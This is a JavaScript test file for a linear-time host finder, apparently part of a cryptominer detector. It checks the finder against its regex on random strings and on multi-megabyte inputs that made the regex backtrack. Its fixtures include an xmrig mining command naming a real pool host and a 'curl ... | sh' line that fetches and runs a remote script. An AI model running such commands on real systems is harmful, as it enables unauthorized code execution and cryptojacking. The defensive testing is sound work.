// Tests for the linear host finder: the same hosts as the regex that defines them, on real command
// lines and on random text built to reach its corners (63-character labels, empty segments,
// hyphens at label ends, digits first), and a hostile command line read in one pass.
import { describe, expect, it } from 'vitest';
import { HOST_PATTERN, hostsIn } from './hosts.js';

describe('hostsIn', () => {
  it('finds the pool hosts of real command lines', () => {
    expect(hostsIn('./xmrig -o pool.minexmr.com:4444 -u 4Abc --tls')).toEqual(['pool.minexmr.com']);
    expect(hostsIn('-o stratum+tcp://XMR.Pool.Example.:3333,eu.example.org')).toEqual([
      'XMR.Pool.Example',
      'eu.example.org',
    ]);
    expect(hostsIn('curl -s http://10.0.0.1/x.sh | sh')).toEqual(['x.sh']);
    expect(hostsIn('no host here, v1.2 and a.b')).toEqual([]);
  });

  it('agrees with the regex on 30,000 random strings', () => {
    let seed = 20261205;
    const rand = () => (seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32;
    const alphabet = ['a', 'b', 'Z', '0', '9', '-', '.', '.', ' ', ':', '/', 'x'];
    for (let i = 0; i < 30_000; i++) {
      let s = '';
      const n = Math.floor(rand() * 40);
      for (let j = 0; j < n; j++)
        s +=
          rand() < 0.05
            ? 'a'.repeat(60 + Math.floor(rand() * 8))
            : alphabet[Math.floor(rand() * alphabet.length)];
      expect(hostsIn(s), JSON.stringify(s)).toEqual(s.match(HOST_PATTERN) ?? []);
    }
  });

  it('reads 2 MB of "a." and of "-a." in one pass', () => {
    // The regex took 12 s on 128 KB of "a." (it backtracks through every label from every start,
    // as the single-letter last part cannot end a host). The bound only guards against a hang.
    for (const piece of ['a.', '-a.', 'a.1.']) {
      const started = Date.now();
      expect(hostsIn(`${piece.repeat((2 << 20) / piece.length)} -o pool.example.org`)).toEqual([
        'pool.example.org',
      ]);
      expect(Date.now() - started, piece).toBeLessThan(3000);
    }
  });
});
